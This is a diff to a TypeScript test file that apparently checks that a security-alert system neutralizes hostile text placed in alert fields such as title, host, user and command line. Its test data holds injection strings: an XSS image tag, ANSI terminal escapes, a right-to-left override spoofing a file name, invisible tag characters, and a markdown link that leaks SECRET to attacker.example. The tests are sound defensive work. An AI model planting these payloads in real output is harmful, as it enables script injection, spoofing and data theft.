@@ -30,6 +30,8 @@ const INJECTIONS = {
   'bidirectional override': 'invoice\u202efdp.exe',
   'zero width and tag characters':
     'a\u200bb\u{e0049}\u{e0067}\u{e006e}\u{e006f}\u{e0072}\u{e0065} me',
+  'HTML and ANSI':
+    '<img src=x onerror=alert(1)>\u001b]8;;https://attacker.example\u0007click\u001b[0m',
   'control characters': 'harmless\u0008\u0008\u001b[2K\u0085new line',
   'link that leaks': '![x](https://attacker.example/?d=SECRET) [click](javascript:alert(1))',
 } as const;
@@ -52,6 +54,9 @@ const PLACES: Record<string, Place> = {
   title: inAlert((title) => ({ title })),
   description: inAlert((description) => ({ description })),
   tag: inAlert((tag) => ({ tags: [tag] })),
+  host: inAlert((host) => ({ hosts: [host] })),
+  user: inAlert((user) => ({ users: [user] })),
+  'id in its source': inAlert((id) => ({ nativeAlertId: id })),
   'user agent': inAlert((agent) => ({ normalizedFields: { user_agent: agent } })),
   'file name': inAlert((name) => ({ normalizedFields: { file_name: name } })),
   'command line': inAlert((line) => ({ normalizedFields: { command_line: line } })),
@@ -98,6 +103,12 @@ function pointersTo(text: string, value: unknown, pointer = ''): string[] {
   ]);
 }
 
+const valueAt = (path: string, value: unknown): unknown =>
+  path
+    .split('/')
+    .slice(1)
+    .reduce<unknown>((inner, key) => (inner as Record<string, unknown> | undefined)?.[key], value);
+
 /** Fails unless the text stands in the JSON as it would be seen, only in marked places. */
 function expectMarked(
   json: string,
@@ -110,6 +121,7 @@ function expectMarked(
   const places = pointersTo(neutralize(text).text, value);
   if (must) expect(places).not.toEqual([]);
   const paths = pathsOf(value);
+  for (const path of paths) expect([path, valueAt(path, value)]).not.toEqual([path, undefined]);
   const isMarked = (place: string) => paths.some((path) => `${place}/`.startsWith(`${path}/`));
   expect(places.filter((place) => !isMarked(place))).toEqual([]);
 }
